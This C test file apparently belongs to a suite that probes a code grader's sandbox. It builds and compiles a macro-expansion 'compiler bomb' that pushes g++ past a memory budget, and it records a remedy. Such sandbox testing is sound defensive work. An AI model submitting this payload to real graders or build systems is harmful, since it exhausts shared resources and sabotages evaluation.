// SPDX-License-Identifier: MIT
/*
 * Goal:  the grader's memory, with a source of two kilobytes.
 * Means: a macro that repeats its argument eight times, used four times over, makes 4 MiB of a
 *        string of 1 KiB. 31 of them stand in one array, and g++ keeps each in three forms until
 *        the array is complete: about 350 MiB. There is no depth and no loop that a limit of the
 *        compiler would count.
 */
#include "attacks/compile-phase/compile.h"

#define STRINGS 31

static void write_bomb(char *at)
{
	at = stpcpy(at, "#define TIMES_8(s) s s s s s s s s\n"
			"#define STRING TIMES_8(TIMES_8(TIMES_8(TIMES_8(\"");
	memset(at, 'x', 1024);
	at = stpcpy(at + 1024, "\")))),\nconst char *bomb[] = { ");
	for (int i = 0; i < STRINGS; i++)
		at = stpcpy(at, "STRING ");
	strcpy(at, "};\n");
}

static enum claim run(const struct brief *b)
{
	char source[2048];

	write_bomb(source);
	if (!enter_folder(b) || !hand_in("answer.cc", source))
		return failed("hand in");
	if (!bound(440, 8))
		return failed("setrlimit");
	attempting(b);
	return RUN(GXX, "-c", "answer.cc") < 0 ? denied("g++") : CLAIM_DONE;
}

const struct attack attack = {
	.effect = "the compiler takes more memory than the budget",
	.means = "macros that repeat a string 4096 times, in an array",
	.oracle = "usage:memory",
	.threshold = 304 << 20, /* between the sandbox's 256 MiB and the bomb's peak */
	.needs = NEED_CXX,
	.seconds = 20, /* of a busy machine's; the processor time is bounded above */
	.id = "COMP-04",
	.attack_id = "T1499.001, CWE-776, CWE-770",
	.remedy = "the limits of the run around the compiler, too",
	.refs = (const char *const[]){ "setrlimit(2), RLIMIT_DATA", NULL },
	.run = run,
};
